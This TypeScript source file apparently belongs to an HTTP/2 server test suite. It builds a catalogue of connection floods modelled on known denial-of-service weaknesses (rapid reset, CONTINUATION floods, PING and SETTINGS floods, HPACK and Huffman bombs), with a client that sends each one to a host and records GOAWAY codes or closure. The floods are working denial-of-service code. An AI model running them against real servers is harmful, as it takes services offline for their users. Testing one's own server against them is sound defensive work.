/** Floods of one connection, by the shapes of known weaknesses, and a client that sends them. */
import { encodeHeaders, type HeaderList } from "../hpack.ts";
import { FLAG, FRAME, FrameReader, FrameWriter, PREFACE, uint32 } from "../frames.ts";

/** Target of a flood. */
export interface Aim {
  /** The request's head; a path that exists there. */
  readonly head: HeaderList;
  /** The whole body of a request that is answered. */
  readonly body: Uint8Array;
}

/** One flood: `frames` writes the n-th piece of it, for a stream number that nobody has used. */
export interface Flood {
  readonly name: string;
  /** SETTINGS that the client begins with. */
  readonly settings?: Uint8Array;
  /** Pieces that are sent unless the connection ends before: 10 to 60 MB. */
  readonly pieces: number;
  readonly frames: (out: FrameWriter, n: number, aim: Aim) => void;
}

const ZERO_WINDOW = new Uint8Array([0, 4, 0, 0, 0, 0]);
const NOTHING = new Uint8Array(0);

function open(out: FrameWriter, stream: number, aim: Aim, flags: number = FLAG.END_HEADERS): void {
  out.frame({ type: FRAME.HEADERS, flags, stream }, encodeHeaders(aim.head));
}

function request(out: FrameWriter, stream: number, aim: Aim): void {
  open(out, stream, aim);
  out.frame({ type: FRAME.DATA, flags: FLAG.END_STREAM, stream }, aim.body);
}

/** Opens stream 1 with the first piece, and writes on it from then on. */
function onOneStream(write: (out: FrameWriter) => void): Flood["frames"] {
  return (out, n, aim) => {
    if (n === 0) open(out, 1, aim);
    for (let i = 0; i < 100; i++) write(out);
  };
}

/** A field whose value is 60,000 times the letter "a", in Huffman's code: five bits each. */
function huffmanField(): Uint8Array {
  const bits = 60_000 * 5;
  const value = new Uint8Array(bits / 8);
  for (let bit = 0; bit < bits; bit++) {
    const one = bit % 5 >= 3;
    if (one) value[bit >> 3] = (value[bit >> 3] ?? 0) | (0x80 >> (bit & 7));
  }
  // Literal without indexing, name "x"; the length with its seven-bit prefix and the bit for Huffman.
  const length = [0xff];
  let rest = value.length - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) length.push((rest % 128) | 0x80);
  return new Uint8Array([0, 1, 0x78, ...length, rest, ...value]);
}

const HUFFMAN_FIELD = huffmanField();

/** A field that the table remembers, as long as the table takes, and then references to it. */
const BOMB = new Uint8Array([
  0x40,
  ...encodeHeaders([["x-bomb", "b".repeat(4000)]]).subarray(1),
  ...new Uint8Array(28).fill(0xbe),
]);
const REFERENCES = new Uint8Array(29).fill(0xbe);

function block(out: FrameWriter, stream: number, bytes: Uint8Array): void {
  let type: number = FRAME.HEADERS;
  for (let at = 0; at < bytes.length; at += 16_000) {
    const end = Math.min(at + 16_000, bytes.length);
    const flags = end === bytes.length ? FLAG.END_HEADERS : 0;
    out.part({ type, flags, stream }, { payload: bytes, start: at, end });
    type = FRAME.CONTINUATION;
  }
}

function joined(...parts: Uint8Array[]): Uint8Array {
  return new Uint8Array(parts.flatMap((part) => [...part]));
}

/** Stream number of the n-th request. */
const id = (n: number) => 2 * n + 1;

/** Every flood there is. */
export const FLOODS: readonly Flood[] = [
  {
    name: "rapid reset (CVE-2023-44487)",
    pieces: 100_000,
    frames: (out, n, aim) => {
      open(out, id(n), aim);
      out.frame({ type: FRAME.DATA, flags: 0, stream: id(n) }, aim.body);
      out.number({ type: FRAME.RST_STREAM, flags: 0, stream: id(n) }, 8);
    },
  },
  {
    name: "rapid reset of whole requests",
    pieces: 100_000,
    frames: (out, n, aim) => {
      request(out, id(n), aim);
      out.number({ type: FRAME.RST_STREAM, flags: 0, stream: id(n) }, 8);
    },
  },
  {
    name: "resets that the server is made to send (CVE-2025-8671)",
    pieces: 100_000,
    frames: (out, n, aim) => {
      open(out, id(n), aim);
      out.number({ type: FRAME.WINDOW_UPDATE, flags: 0, stream: id(n) }, 0);
    },
  },
  {
    name: "CONTINUATION without end (CVE-2024-27316)",
    pieces: 100_000,
    frames: (out, n, aim) => {
      if (n === 0) open(out, 1, aim, 0);
      out.frame({ type: FRAME.CONTINUATION, flags: 0, stream: 1 }, new Uint8Array([0, 1, 97, 0]));
    },
  },
  {
    name: "PING (CVE-2019-9512)",
    pieces: 20_000,
    frames: (out) => {
      for (let i = 0; i < 100; i++) {
        out.frame({ type: FRAME.PING, flags: 0, stream: 0 }, new Uint8Array(8));
      }
    },
  },
  {
    name: "SETTINGS (CVE-2019-9515)",
    pieces: 20_000,
    frames: (out) => {
      for (let i = 0; i < 100; i++) {
        out.frame({ type: FRAME.SETTINGS, flags: 0, stream: 0 }, ZERO_WINDOW);
      }
    },
  },
  {
    name: "PRIORITY (CVE-2019-9513)",
    pieces: 20_000,
    frames: (out) => {
      for (let i = 0; i < 100; i++) {
        out.frame({ type: FRAME.PRIORITY, flags: 0, stream: 1 }, new Uint8Array(5));
      }
    },
  },
  {
    name: "WINDOW_UPDATE",
    pieces: 20_000,
    frames: onOneStream((out) => out.number({ type: FRAME.WINDOW_UPDATE, flags: 0, stream: 1 }, 1)),
  },
  {
    name: "empty DATA (CVE-2019-9518)",
    pieces: 20_000,
    frames: onOneStream((out) => out.frame({ type: FRAME.DATA, flags: 0, stream: 1 }, NOTHING)),
  },
  {
    name: "DATA byte by byte (CVE-2019-9511)",
    pieces: 20_000,
    frames: onOneStream((out) =>
      out.frame({ type: FRAME.DATA, flags: 0, stream: 1 }, new Uint8Array(1))
    ),
  },
  {
    name: "HPACK bomb (CVE-2016-6581)",
    pieces: 50_000,
    frames: (out, n, aim) =>
      block(out, id(n), joined(encodeHeaders(aim.head), n === 0 ? BOMB : REFERENCES)),
  },
  {
    name: "Huffman bomb",
    pieces: 1500,
    frames: (out, n, aim) => block(out, id(n), joined(encodeHeaders(aim.head), HUFFMAN_FIELD)),
  },
  {
    name: "answers behind a window of zero (CVE-2019-9517)",
    settings: ZERO_WINDOW,
    pieces: 50_000,
    frames: (out, n, aim) => request(out, id(n), aim),
  },
  {
    name: "streams without end",
    pieces: 50_000,
    frames: (out, n, aim) => {
      open(out, id(n), aim);
      out.frame({ type: FRAME.DATA, flags: 0, stream: id(n) }, aim.body.subarray(0, -1));
    },
  },
  {
    name: "long messages that are never whole",
    pieces: 9_000,
    frames: (out, n, aim) => {
      open(out, id(n), aim);
      const prefix = new Uint8Array([0, 1, 0, 0, 0]);
      out.frame(
        { type: FRAME.DATA, flags: 0, stream: id(n) },
        joined(prefix, new Uint8Array(8000)),
      );
    },
  },
];

/** How a flood ended. */
export interface FloodEnd {
  /** Code of the GOAWAY that came; undefined when none did. */
  readonly goaway: number | undefined;
  /** Whether the server closed the connection. */
  readonly closed: boolean;
  /** Pieces that were written. */
  readonly pieces: number;
}

/** Sends a flood over a connection of its own, until it is over or the server ends the connection. */
export async function flood(
  address: { readonly hostname: string; readonly port: number },
  { settings = NOTHING, pieces, frames }: Flood,
  aim: Aim,
): Promise<FloodEnd> {
  const connection = await Deno.connect(address);
  const seen = watch(connection);
  const out = new FrameWriter();
  out.raw(new TextEncoder().encode(PREFACE));
  out.frame({ type: FRAME.SETTINGS, flags: 0, stream: 0 }, settings);
  let written = 0;
  try {
    while (written < pieces && !seen.closed) {
      while (out.length < 64 * 1024 && written < pieces) frames(out, written++, aim);
      const bytes = out.take();
      for (let at = 0; at < bytes.length;) at += await connection.write(bytes.subarray(at));
      // A write that the kernel takes at once gives no turn to the reader.
      await new Promise((resolve) => setImmediate(resolve));
    }
    // What comes behind the last piece: an answer to a ping, or the end.
    out.frame({ type: FRAME.PING, flags: 0, stream: 0 }, new Uint8Array(8).fill(7));
    await connection.write(out.take());
  } catch (error) {
    if (
      !(error instanceof Deno.errors.BrokenPipe) && !(error instanceof Deno.errors.ConnectionReset)
    ) {
      throw error;
    }
  }
  await seen.over;
  connection.close();
  return { goaway: seen.goaway, closed: seen.closed, pieces: written };
}

interface Seen {
  goaway: number | undefined;
  closed: boolean;
  /** Resolves when the connection ended, or the last ping was answered. */
  over: Promise<void>;
}

function watch(connection: Deno.Conn): Seen {
  const reader = new FrameReader();
  const seen: Seen = { goaway: undefined, closed: false, over: Promise.resolve() };
  const run = async () => {
    const buffer = new Uint8Array(64 * 1024);
    let answered = false;
    while (!answered) {
      const size = await connection.read(buffer).catch(() => null);
      if (size === null) break;
      reader.push(buffer.slice(0, size), ({ type, flags }, payload) => {
        if (type === FRAME.GOAWAY) seen.goaway = uint32(payload, 4);
        else if (type === FRAME.PING && flags === FLAG.ACK && payload[0] === 7) answered = true;
        return true;
      });
    }
    seen.closed = !answered;
  };
  seen.over = run();
  return seen;
}
